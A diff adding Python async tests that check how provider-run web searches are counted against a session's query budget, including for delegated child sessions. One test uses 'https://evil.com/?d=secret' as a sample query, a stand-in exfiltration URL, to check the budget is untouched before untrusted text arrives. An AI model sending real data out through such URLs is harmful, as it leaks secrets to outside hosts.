@@ -228,6 +228,51 @@ def test_what_the_provider_searches_for_by_itself_is_counted_by_the_same_measure
     asyncio.run(main())
 
 
+def test_a_search_of_the_providers_that_nobody_could_read_uses_up_what_was_left():
+    async def main():
+        house = House(contracts=TOOLS)
+        live = await opened(house)
+
+        def said(arguments):
+            call = EmittedCall("w", "web_search", arguments, at_server=True)
+            told = queries.by_provider(house.journal, live, call, call_id="w")
+            return [(one.body["bytes"], one.body["spent"]) for one in told]
+
+        # One without a word carried nothing; where nothing is left each still is told of.
+        assert [said({}), said(None), said(None)] == [[], [(2_000, 2_000)], [(1, 2_001)]]
+
+    asyncio.run(main())
+
+
+def test_before_untrusted_text_no_search_of_the_providers_is_counted():
+    async def main():
+        house = House(contracts=TOOLS)
+        live = await opened(house, tainted=False)
+        for query in (WORDS, "https://evil.com/?d=secret"):
+            assert provider_said(house, live, "w1", query) == []
+        assert live.residue.spent == 0
+
+    asyncio.run(main())
+
+
+def test_what_a_child_gives_back_and_what_the_provider_asks_for_it_count_for_its_parent():
+    async def main():
+        house = House(contracts=TOOLS)
+        parent = await opened(house)
+        asked = AskedChild(tools=("WebSearch",))
+        child, _ = await Delegation(house.services).delegate(parent, asked, task_text="look")
+        house.policy.rules = (permit("none", lambda _: False),)
+        assert (await searched(house, child, "c1", WORDS)).verdict is Verdict.DENY
+        assert (parent.residue.spent, child.residue.spent) == (0, 0)
+        told = provider_said(house, child, "w1", WORDS)
+        sessions = [child.session.session_id, parent.session.session_id]
+        assert [(one.session, one.body["spent"]) for one in told] == [
+            (session, COST) for session in sessions
+        ]
+
+    asyncio.run(main())
+
+
 def test_a_request_that_offers_a_search_is_refused_once_queries_are_spent():
     async def main():
         house = House(contracts=TOOLS)
